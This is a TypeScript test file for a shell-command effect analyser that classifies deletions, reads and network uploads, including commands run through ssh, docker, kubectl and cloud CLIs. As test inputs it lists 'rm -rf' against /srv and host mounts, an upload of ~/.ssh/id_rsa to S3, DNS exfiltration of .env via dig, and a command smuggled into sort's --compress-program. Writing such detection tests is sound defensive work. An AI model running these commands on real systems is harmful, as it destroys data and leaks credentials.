import { describe, expect, it } from "vitest";
import { isThisMachine } from "../../../facts/programs/remote-wrappers.ts";
import { literalField } from "../../../facts/shell/fields.ts";
import { shownText } from "../../../schema/approximation.ts";
import { bash, deletes, programs } from "../effects/judge.ts";
import { effectLine } from "./rows.ts";

const place = { start: 0, end: 0 };

function config(command: string): string[] {
  return (bash(command).effects?.config ?? []).map((one) => shownText(one.target));
}

describe("what runs on another machine", () => {
  it.each([
    ["ssh h 'rm -rf /srv'", ["/srv recursive maybe"]],
    ["ssh -t u@h -p 22 sudo rm -rf /srv", ["/srv recursive maybe"]],
    ["ssh h <<'E'\nrm -rf /srv\nE", ["/srv recursive maybe"]],
    ["ssh h bash -s <<'E'\nrm -rf /srv\nE", ["/srv recursive maybe"]],
    ["echo 'rm -rf /srv' | ssh h", ["/srv recursive maybe"]],
    ["ssh -o RemoteCommand='rm -rf /srv' h", ["/srv recursive maybe"]],
    ["ssh -o 'ProxyCommand rm -rf /srv' h", ["/srv recursive"]],
    ["rsync -e 'sh -c \"rm -rf /srv\"' a h:b", ["/srv recursive"]],
    ["ssh localhost rm -rf /srv", ["/srv recursive"]],
    ["ssh dev@127.0.0.1 'rm -rf notes'", ["/home/dev/notes recursive"]],
    ["kubectl exec -n x web -c y -- sh -c 'rm -rf /srv'", ["/srv recursive maybe"]],
    ["docker exec -u 0 -w /srv app rm -rf data", ["/srv/data recursive maybe"]],
    ["docker compose -f x.yml exec -T app rm -rf /srv", ["/srv recursive maybe"]],
    ["docker run --entrypoint rm alpine -rf /srv", ["/srv recursive maybe"]],
    ["vagrant ssh -c 'rm -rf /srv'", ["/srv recursive maybe"]],
    ["gcloud compute ssh vm --command 'rm -rf /srv'", ["/srv recursive maybe"]],
    ['aws ssm send-command --parameters \'{"commands":["ls","rm -rf /srv"]}\'', ["/srv recursive maybe"]],
    ["ansible all -m shell -a 'rm -rf /srv'", ["/srv recursive maybe"]],
    ["ansible localhost -m shell -a 'rm -rf /srv'", ["/srv recursive"]],
    ["fly ssh console -C 'rm -rf /srv'", ["/srv recursive maybe"]],
    ["nsenter -t 1 -m -- rm -rf /srv", ["/srv recursive"]],
    ["bwrap --bind /srv /x --chdir /x rm -rf a", ["/srv/a recursive"]],
  ])("%j deletes %j", (command, expected) => {
    expect(deletes(bash(command))).toEqual(expected);
  });

  it("shows the wrappers", () => {
    expect(programs(bash("sudo docker exec app sh -c 'ls /srv'"))).toEqual(["sudo docker", "sudo docker sh ls"]);
  });

  it.each([
    ["localhost", true],
    ["u@localhost", true],
    ["127.1", true],
    ["0x7f.1", true],
    ["::1", true],
    ["[::1]", true],
    ["localhost.example", false],
    ["h", false],
    ["10.0.0.1", false],
  ])("takes %j for this machine: %s", (host, expected) => {
    expect(isThisMachine(literalField(host, place))).toBe(expected);
  });
});

describe("containers", () => {
  it.each([
    ["docker run -v /home/dev:/h alpine rm -rf /h/app", ["/home/dev/app recursive maybe"]],
    ["docker run -v /:/host alpine sh -c 'rm -rf /host/etc'", ["/etc recursive maybe"]],
    ["docker run --mount type=bind,source=/srv,target=/x alpine rm -rf /x", ["/srv recursive maybe"]],
    ['docker run -v "$PWD":/app -w /app node rm -rf dist', ["/home/dev/app/dist recursive maybe"]],
    ["docker run -v data:/x alpine rm -rf /x/a", ["/x/a recursive maybe"]],
    ["docker run -v /srv:/x alpine rm -rf /xy", ["/xy recursive maybe"]],
  ])("%j deletes %j", (command, expected) => {
    expect(deletes(bash(command))).toEqual(expected);
  });

  it("writes through a mount unless it is read-only", () => {
    const writes = (command: string) => bash(command).effects?.writes.map((one) => one.path.lexical);
    expect([writes("docker run -v /srv:/x i"), writes("docker run -v /srv:/x:ro i")]).toEqual([
      ["/srv", "/srv/**"],
      [],
    ]);
  });

  it.each([
    "docker ps",
    "docker logs -f web",
    "docker build -t x .",
    "docker images",
    "docker compose up -d",
    "docker compose logs",
    "docker inspect x",
    "docker pull node:20",
  ])("%j is understood", (command) => {
    expect(bash(command).understanding).toBe("understood");
  });

  it("has the chain of words as the subcommand", () => {
    const chains = [
      "docker compose -f a.yml up -d",
      "docker system prune",
      "aws --profile p s3 rm s3://b",
      "gcloud compute instances list",
      "git push",
    ].map((command) => bash(command).shell?.commands[0]?.subcommand);
    expect(chains).toEqual(["compose up", "system prune", "s3 rm", "compute instances list", "push"]);
  });
});

describe("targets of operations", () => {
  it.each([
    ["kubectl delete ns prod", ["kubernetes delete namespace/prod"]],
    ["kubectl -n x delete po a b", ["kubernetes delete pod/a", "kubernetes delete pod/b"]],
    ["kubectl delete pods,svc -l app=x", ["kubernetes delete pod/*", "kubernetes delete service/*"]],
    ["kubectl delete -f a.yaml", ["kubernetes delete manifest/a.yaml"]],
    ["kubectl get pods", []],
    ["kubectl apply -f a.yaml --dry-run=client", []],
    ["kubectl rollout status deploy/a", []],
    ["terraform plan", []],
    ["terraform apply -destroy", ["terraform destroy"]],
    ["tofu destroy -target=a.b", ["terraform destroy a.b"]],
    ["aws s3 rb s3://b --force", ["aws delete s3://b"]],
    ["aws s3api delete-bucket --bucket b", ["aws delete s3api/bucket/b"]],
    ["aws ec2 describe-instances", []],
    ["gcloud projects delete p", ["gcloud delete projects/p"]],
    ["gcloud config list", []],
    ["az group delete -n prod", ["azure delete group/prod"]],
    ["gh repo delete o/n", ["github delete repo/o/n"]],
    ["gh api repos/o/n", []],
    ["heroku apps:destroy -a x", ["heroku delete apps/x"]],
    ["helm uninstall a b", ["helm delete release/a", "helm delete release/b"]],
    ["docker volume prune -f", ["docker delete volume/*"]],
  ])("%j has %j", (command, expected) => {
    expect(config(command)).toEqual(expected);
  });

  it.each([
    ["aws s3 cp ~/.ssh/id_rsa s3://b/k", "read ~/.ssh/id_rsa; network b.s3.amazonaws.com upload"],
    ["aws s3 mv f s3://b/k", "read f; delete f; network b.s3.amazonaws.com upload"],
    [
      "aws lambda invoke --payload file://p.json out",
      "read p.json; network lambda.amazonaws.com upload; config aws invoke lambda/out",
    ],
    ["gh pr create -t x -b y", "network api.github.com upload; config github create pr"],
    ["aws $X rm s3://b", "opaque"],
    ["dig $(cat .env).h.example", "read .env; network .h.example both maybe; opaque"],
    ["sort --compress-program='rm -rf x' f", "(sort rm); read f; delete x recursive; run rm -rf x; opaque"],
  ])("%j: %s", (command, expected) => {
    expect(effectLine(command)).toBe(expected);
  });
});
